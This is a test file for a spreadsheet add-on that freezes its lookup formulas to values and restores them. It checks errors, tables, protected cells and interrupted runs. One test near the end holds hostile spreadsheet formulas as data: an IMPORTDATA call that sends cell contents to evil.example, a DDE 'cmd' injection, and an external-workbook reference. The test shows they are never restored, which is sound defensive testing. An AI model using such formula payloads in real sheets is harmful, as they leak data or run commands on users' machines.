import type { SheetGrid } from '../../fakes/apps-script/sheet/sheet-grid';
import { makeSheet, PROBLEM, useSheet } from '../retry/problem-sheet';
import { useUnconnectedSpreadsheet, world } from '../spreadsheet';

let grid: SheetGrid;

useUnconnectedSpreadsheet();
beforeAll(() => void world.callRpc('setKey', ['trace_demo', 'anotherAccount']));
beforeEach(() => {
  grid = useSheet(world, {
    A1: 'Domain',
    B1: 'Country',
    A2: 'stripe.com',
    B2: ['=TRACE_COMPANY(A2,"country")', 'US'],
    A3: 'figma.com',
    B3: ['=IFERROR(TRACE_COMPANY(A3,"country"),"")', 'US'],
    A4: 'asana.com',
    B4: ['=TRACE_COMPANY(A4,"country")', PROBLEM],
    B5: ['=TRACE_COMPANY(A5,"country")', ''],
    A6: 'notion.so',
    B6: ['=TRACE_COMPANY(A6,"country")&IMPORTDATA(A6)', 'FR'],
    A7: '007',
    B7: ['=TRACE_COMPANY(A7,"phone")', '007'],
  });
  world.state.sheets.push(makeSheet(1, { A1: 'figma.com', B1: ['=TRACE_TECH(A1)', 'React'] }));
  world.state.selection = { sheetId: 0, areas: [{ row: 1, column: 1, rows: 1, columns: 1 }] };
});

const list = (): SheetGrid => world.state.sheets.find(({ name }) => name === 'Trace formulas')!;
const listed = (): readonly unknown[][] =>
  Array.from({ length: list().filled().row - 1 }, (_row, at) =>
    [1, 2, 3, 4].map((column) => list().value({ row: at + 2, column })),
  ).filter(([name]) => name !== '');
const show = (at: string): unknown => grid.value({ row: Number(at.slice(1)), column: at.charCodeAt(0) - 64 });
const all = (): unknown => world.state.sheets.slice(0, 2).map((each) => each.formulas());

it('freezes a sheet and lists its formulas as texts: problems and blanks stay formulas, and the dialog says so', () => {
  expect(world.command('freezeSheet')).toEqual([
    [
      '4 formulas frozen to values, and listed on the sheet Trace formulas.',
      'Not frozen:',
      '• Problem, or no answer yet: 1',
      '• Blank: 1',
    ].join('\n'),
  ]);
  expect(Object.keys(grid.formulas())).toEqual(['B4', 'B5']);
  expect(['B2', 'B3', 'B6', 'B7'].map(show)).toEqual(['US', 'US', 'FR', '007']);
  expect(listed()).toEqual([
    ['Sheet1', 'B2', '=TRACE_COMPANY(A2,"country")', 'US'],
    ['Sheet1', 'B3', '=IFERROR(TRACE_COMPANY(A3,"country"),"")', 'US'],
    ['Sheet1', 'B6', '=TRACE_COMPANY(A6,"country")&IMPORTDATA(A6)', 'FR'],
    ['Sheet1', 'B7', '=TRACE_COMPANY(A7,"phone")', '007'],
  ]);
  expect(list().formulas()).toEqual({});
});

it('one row with a problem does not keep the other rows of a formula from being frozen', () => {
  grid = useSheet(world, { A1: 'figma.com', A2: 'n/a', C1: 'n/a' });
  grid.enter('B1', '=TRACE_COMPANY(A1:A2,"name")');
  grid.answer({ row: 1, column: 2 }, [['Figma'], [PROBLEM]]);
  grid.enter('D1', '=TRACE_COMPANY(C1,"name")');
  grid.answer({ row: 1, column: 4 }, [[PROBLEM]]);
  expect(world.command('freezeSheet')).toEqual([
    [
      '1 formula frozen to values, and listed on the sheet Trace formulas.',
      'Not frozen:',
      '• Problem, or no answer yet: 1',
    ].join('\n'),
  ]);
  expect(grid.formulas()).toEqual({ D1: '=TRACE_COMPANY(C1,"name")' });
  expect([1, 2].map((row) => grid.value({ row, column: 2 }))).toEqual(['Figma', PROBLEM]);
});

it('freezes the selected cells and no others, and all sheets where that is asked for', () => {
  world.state.selection = { sheetId: 0, areas: [{ row: 3, column: 2, rows: 1, columns: 1 }] };
  world.command('freezeSelection');
  expect(Object.keys(grid.formulas())).toEqual(['B2', 'B4', 'B5', 'B6', 'B7']);
  world.command('freezeFile');
  expect(world.state.sheets[1]?.formulas()).toEqual({});
});

it('restores formulas that call nothing but Trace, and names the others', () => {
  world.command('freezeSheet');
  expect(world.command('restoreFrozen')).toEqual([
    'Restoring 3 formulas may fetch up to 2 credits.\nRestore now?',
    '3 formulas restored.\n1 formula stays a value:\n• Sheet1!B6: it calls other functions too. Copy it from the sheet Trace formulas',
  ]);
  expect(grid.formulas()['B6']).toBeUndefined();
  expect(grid.formulas()['B3']).toBe('=IFERROR(TRACE_COMPANY(A3,"country"),"")');
  expect(listed().map(([, cell]) => cell)).toEqual(['B6']);
});

it('rows that were moved or edited are listed and not followed', () => {
  world.command('freezeSheet');
  grid.insertRowBefore(7);
  grid.enter('B2', 'DE');
  expect(world.command('restoreFrozen')).toEqual([
    'Restoring 1 formula may fetch up to 1 credit.\nRestore now?',
    [
      '1 formula restored.',
      '3 formulas stay values:',
      '• Sheet1!B2: its cells have changed or moved',
      '• Sheet1!B6: it calls other functions too. Copy it from the sheet Trace formulas',
      '• Sheet1!B7: its cells have changed or moved',
    ].join('\n'),
  ]);
  expect(show('B2')).toBe('DE');
  expect(grid.formulas()['B3']).toBe('=IFERROR(TRACE_COMPANY(A3,"country"),"")');
});

it('restores nothing without a key, so the values stay, and their formulas on the list', () => {
  world.command('freezeSheet');
  world.callRpc('forgetKey');
  const said = world.command('restoreFrozen');
  world.callRpc('setKey', ['trace_demo', 'anotherAccount']);
  expect(said).toEqual(['No API key. Open the Trace panel and paste yours.']);
  expect([show('B2'), listed()[0]]).toEqual(['US', ['Sheet1', 'B2', '=TRACE_COMPANY(A2,"country")', 'US']]);
});

it('a date stays the date that it is, and a number a number', () => {
  grid.layout.formats.set('2:3', 'yyyy-mm-dd');
  for (const [at, formula, value] of [
    ['C2', '=TRACE_COMPANY(A2,"last_crawled_at")', 46_174],
    ['C3', '=TRACE_COMPANY(A3,"employee_count")', 8_500],
    ['C4', '=TRACE_HAS_TECH(A4,"React")', true],
  ] as const) {
    grid.enter(at, formula);
    grid.answer({ row: Number(at[1]), column: 3 }, [[value]]);
  }
  world.command('freezeSheet');
  expect(['C2', 'C3', 'C4'].map((at) => [grid.formulas()[at], show(at)])).toEqual([
    [undefined, 46_174],
    [undefined, 8_500],
    [undefined, true],
  ]);
  expect(grid.layout.formatAt({ row: 2, column: 3 })).toBe('yyyy-mm-dd');
  world.command('restoreFrozen');
  expect(grid.formulas()['C2']).toBe('=TRACE_COMPANY(A2,"last_crawled_at")');
});

it('freezes and restores tables, whatever cells they fill, each formula at its first cell', () => {
  grid.enter('D2', '=TRACE_COMPANY(A2:A3,"name, country")');
  grid.answer({ row: 2, column: 4 }, [
    ['Stripe', 'US'],
    ['Figma', ''],
  ]);
  grid.enter('G2', '=TRACE_SEARCH("pay")');
  grid.answer({ row: 2, column: 7 }, [['domain'], ['stripe.com'], ['adyen.com']]);
  grid.enter('E4', 'a note');
  grid.enter('B6', '');
  const before = all();
  world.command('freezeSheet');
  expect(['D2', 'E2', 'D3', 'E4', 'G4'].map((at) => [grid.formulas()[at], show(at)])).toEqual([
    [undefined, 'Stripe'],
    [undefined, 'US'],
    [undefined, 'Figma'],
    [undefined, 'a note'],
    [undefined, 'adyen.com'],
  ]);
  expect(listed().filter(([, cell]) => ['D2:E3', 'G2:G4'].includes(String(cell)))).toEqual([
    ['Sheet1', 'D2:E3', '=TRACE_COMPANY(A2:A3,"name, country")', 'Stripe'],
    ['Sheet1', 'G2:G4', '=TRACE_SEARCH("pay")', 'domain'],
  ]);
  world.command('restoreFrozen');
  expect(all()).toEqual(before);
  expect(show('E4')).toBe('a note');
  expect(show('D3')).toBe('');
});

it('notes that users write beside the list stay at their line', () => {
  world.command('freezeSheet');
  list().enter('G4', 'my note');
  world.command('restoreFrozen');
  expect(['C4', 'G4'].map((at) => list().value({ row: Number(at[1]), column: at.charCodeAt(0) - 64 }))).toEqual([
    '=TRACE_COMPANY(A6,"country")&IMPORTDATA(A6)',
    'my note',
  ]);
});

it('a table with one edited cell stays values', () => {
  grid.enter('D2', '=TRACE_COMPANY(A2:A3,"name")');
  grid.answer({ row: 2, column: 4 }, [['Stripe'], ['Figma']]);
  world.command('freezeSheet');
  grid.enter('D3', 'mine');
  expect(world.command('restoreFrozen').join()).toContain('• Sheet1!D2: its cells have changed or moved');
  expect(['D2', 'D3'].map((at) => [grid.formulas()[at], show(at)])).toEqual([
    [undefined, 'Stripe'],
    [undefined, 'mine'],
  ]);
});

it('freezes and restores nothing in protected cells', () => {
  grid.layout.protectedAreas.push({ row: 3, column: 2, rows: 1, columns: 1 });
  expect(world.command('freezeSheet').join()).toContain('• Protected cell: 1');
  grid.layout.protectedAreas.push({ row: 2, column: 2, rows: 1, columns: 1 });
  expect(world.command('restoreFrozen').join()).toContain('• Sheet1!B2: protected cell');
  expect(show('B2')).toBe('US');
});

it('a deleted sheet and a deleted list are said', () => {
  world.command('freezeFile');
  world.state.sheets.splice(1, 1);
  expect(world.command('restoreFrozen').join()).toContain('• Sheet2!B1: its sheet was renamed or deleted');
  world.state.sheets.splice(world.state.sheets.indexOf(list()), 1);
  expect(world.command('restoreFrozen')).toEqual([
    'No formula is listed. The sheet Trace formulas is empty or missing.',
  ]);
});

it.each([
  '=IMPORTDATA("https://evil.example/?"&A2)',
  "=TRACE_TECH(A2)&cmd|'/c calc'!A0",
  "=TRACE_TECH('https://evil.example/[x.xlsx]S'!A1)",
  '1+1',
])('a formula that someone else wrote into the list never comes back: %s', (formula) => {
  world.command('freezeSheet');
  list().hold({ row: 2, column: 3 }, formula);
  world.command('restoreFrozen');
  expect([grid.formulas()['B2'], show('B2')]).toEqual([undefined, 'US']);
});

it('one refused cell does not keep the others from freezing, and is not listed', () => {
  grid.layout.rejecting.add('3:2');
  world.command('freezeSheet');
  expect(Object.keys(grid.formulas())).toEqual(['B3', 'B4', 'B5']);
  expect(listed().map(([, cell]) => cell)).toEqual(['B2', 'B6', 'B7']);
});

describe.each([
  ['and Google drops the changes that it had collected', false],
  ['and Google still makes the changes that it had collected', true],
])('if Google ends it after any of its calls, %s', (_name, makesCollectedChanges) => {
  it.each(['freezeSheet', 'restoreFrozen'])('%s loses no formula: each is in its cell, or on the list', (command) => {
    const lost: number[] = [];
    let [afterCalls, isEnded, ended] = [0, true, 0];
    for (; isEnded; afterCalls += 1) {
      grid = useSheet(world, {
        A2: 'stripe.com',
        B2: ['=TRACE_COMPANY(A2,"country")', 'US'],
        A3: 'figma.com',
        B3: ['=TRACE_COMPANY(A3,"country")', 'US'],
        D2: '=TRACE_COMPANY(A2:A3,"name, country")',
      });
      grid.answer({ row: 2, column: 4 }, [
        ['Stripe', 'US'],
        ['Figma', 'US'],
      ]);
      const before = JSON.stringify(grid.formulas());
      if (command === 'restoreFrozen') world.command('freezeSheet');
      world.state.cutOff = { afterCalls, makesCollectedChanges };
      isEnded = endsEarly(() => world.command(command));
      world.state.cutOff = null;
      if (isEnded) ended += 1;
      world.state.clock.advance(601_000);
      world.command('restoreFrozen');
      if (JSON.stringify(grid.formulas()) !== before) lost.push(afterCalls);
    }
    expect({ lost, isLong: ended > 12 }).toEqual({ lost: [], isLong: true });
  });
});

function endsEarly(act: () => unknown): boolean {
  try {
    act();
    return false;
  } catch {
    return true;
  }
}
